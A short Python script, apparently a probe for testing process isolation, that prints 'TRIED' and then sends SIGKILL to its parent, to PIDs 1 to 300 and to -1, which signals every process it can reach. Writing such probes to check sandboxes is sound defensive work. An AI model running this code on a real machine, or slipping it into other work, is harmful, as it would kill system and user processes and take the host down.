"""Kills every process that it has a number for: its parent, its neighbours, all."""
import os
import signal

print("TRIED", flush=True)
own = os.getpid()
for pid in [os.getppid() or 1, *range(1, 301), -1]:
    if pid != own:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
